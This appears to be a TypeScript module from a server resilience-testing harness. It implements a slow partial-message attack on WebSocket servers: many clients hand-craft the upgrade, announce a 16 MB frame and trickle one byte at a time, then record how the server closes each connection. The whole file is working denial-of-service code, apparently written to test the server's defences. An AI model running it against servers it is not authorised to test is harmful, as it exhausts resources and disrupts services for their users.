// The partial-message attacker: raw TCP, because no WebSocket library will start a frame and then
// withhold it. Each client upgrades by hand, then, in a separate write after the 101 (so the header
// is not folded into the upgrade request), sends a masked binary frame header announcing 16 MB and
// trickles its payload a byte at a time. It reads what the server sends back only to learn how the
// connection ended: a close frame and its code, a FIN, or a reset.
import { randomBytes } from 'node:crypto';
import net from 'node:net';
import tls from 'node:tls';
import { epochNow } from '../load/messages.js';
import { bump, lifetimeSummary, type AttackReport } from './messages.js';
import type { HostileScenario } from './scenario.js';

/** FIN + binary opcode, MASK + 64-bit length, the length, then the 4-byte masking key. */
export function frameHeader(announcedBytes: number): Buffer {
  const header = Buffer.alloc(14);
  header[0] = 0x82;
  header[1] = 0x80 | 127;
  header.writeBigUInt64BE(BigInt(announcedBytes), 2);
  randomBytes(4).copy(header, 10);
  return header;
}

interface Client {
  socket: net.Socket;
  upgradedAt: number;
  closeCode?: number;
  reset?: boolean;
}

export class PartialMessageAttack {
  private readonly report: AttackReport = { counts: { upgraded: 0, headersSent: 0, bytesTrickled: 0, pings: 0 }, replies: {}, ends: {} };
  private readonly clients = new Set<Client>();
  /** Every socket, upgraded or not, so that stop() leaves none behind. */
  private readonly sockets = new Set<net.Socket>();
  private readonly lifetimes: number[] = [];
  private trickle: NodeJS.Timeout | undefined;
  private stopped = false;
  private result: Promise<AttackReport> | undefined;

  constructor(
    private readonly url: string,
    private readonly headers: Record<string, string>,
    private readonly options: HostileScenario['partial'],
  ) {}

  start(): void {
    for (let i = 0; i < this.options.clients; i++) this.connect();
    this.trickle = setInterval(() => {
      for (const c of this.clients) {
        if (!c.upgradedAt || c.socket.destroyed) continue;
        c.socket.write(randomBytes(1));
        this.report.counts.bytesTrickled++;
      }
    }, this.options.trickleIntervalMs);
  }

  private connect(): void {
    const u = new URL(this.url);
    const secure = u.protocol === 'wss:';
    const port = Number(u.port) || (secure ? 443 : 80);
    const socket = secure ? tls.connect({ host: u.hostname, port, servername: u.hostname }) : net.connect({ host: u.hostname, port });
    socket.setNoDelay(true);
    this.sockets.add(socket);
    const client: Client = { socket, upgradedAt: 0 };
    let head: Buffer = Buffer.alloc(0);
    let rx: Buffer = Buffer.alloc(0);
    const request = [
      `GET ${u.pathname}${u.search} HTTP/1.1`,
      `Host: ${u.host}`,
      'Upgrade: websocket',
      'Connection: Upgrade',
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
      'Sec-WebSocket-Version: 13',
      ...Object.entries(this.headers).map(([name, value]) => `${name}: ${value}`),
      '',
      '',
    ].join('\r\n');
    socket.once(secure ? 'secureConnect' : 'connect', () => socket.write(request));
    socket.on('data', (chunk: Buffer) => {
      if (client.upgradedAt) {
        rx = this.readFrames(client, Buffer.concat([rx, chunk]));
        return;
      }
      head = Buffer.concat([head, chunk]);
      const end = head.indexOf('\r\n\r\n');
      if (end < 0) {
        if (head.length > 16_384) socket.destroy();
        return;
      }
      const status = /^HTTP\/1\.1 (\d{3})/.exec(head.subarray(0, end).toString('latin1'))?.[1] ?? '0';
      if (status !== '101') {
        bump(this.report.ends, `refused_${status}`);
        socket.destroy();
        return;
      }
      client.upgradedAt = epochNow();
      this.clients.add(client);
      this.report.counts.upgraded++;
      // Whatever followed the 101 in this packet (hello) is the start of the frame stream.
      rx = this.readFrames(client, head.subarray(end + 4));
      setImmediate(() => {
        if (socket.destroyed || this.stopped) return;
        socket.write(frameHeader(this.options.announcedBytes));
        this.report.counts.headersSent++;
      });
    });
    socket.on('error', (err: NodeJS.ErrnoException) => {
      if (err.code === 'ECONNRESET' || err.code === 'EPIPE') client.reset = true;
      else if (!client.upgradedAt && !this.stopped) bump(this.report.ends, 'connect_failed');
    });
    socket.on('close', () => {
      this.sockets.delete(socket);
      if (!client.upgradedAt || this.stopped) return;
      this.clients.delete(client);
      this.lifetimes.push(epochNow() - client.upgradedAt);
      bump(this.report.ends, client.closeCode !== undefined ? `closed_${client.closeCode}` : client.reset ? 'reset' : 'fin');
    });
  }

  /** Consumes whole server frames (unmasked) from `buf`; returns the unread rest. */
  private readFrames(client: Client, buf: Buffer): Buffer {
    for (;;) {
      if (buf.length < 2) return buf;
      const opcode = buf[0] & 0x0f;
      let length = buf[1] & 0x7f;
      let offset = 2;
      if (length === 126) {
        if (buf.length < 4) return buf;
        length = buf.readUInt16BE(2);
        offset = 4;
      } else if (length === 127) {
        if (buf.length < 10) return buf;
        length = Number(buf.readBigUInt64BE(2));
        offset = 10;
      }
      if (buf.length < offset + length) return buf;
      const payload = buf.subarray(offset, offset + length);
      if (opcode === 0x8) client.closeCode = payload.length >= 2 ? payload.readUInt16BE(0) : 1005;
      else if (opcode === 0x9) this.report.counts.pings++;
      else bump(this.report.replies, opcode === 0x2 ? 'binary_message' : `opcode_${opcode}`);
      buf = buf.subarray(offset + length);
    }
  }

  stop(): Promise<AttackReport> {
    this.result ??= (async () => {
      this.stopped = true;
      clearInterval(this.trickle);
      const now = epochNow();
      for (const c of this.clients) {
        bump(this.report.ends, 'open_at_end');
        this.lifetimes.push(now - c.upgradedAt);
      }
      for (const socket of this.sockets) socket.destroy();
      this.report.lifetimeMs = lifetimeSummary(this.lifetimes);
      return this.report;
    })();
    return this.result;
  }
}
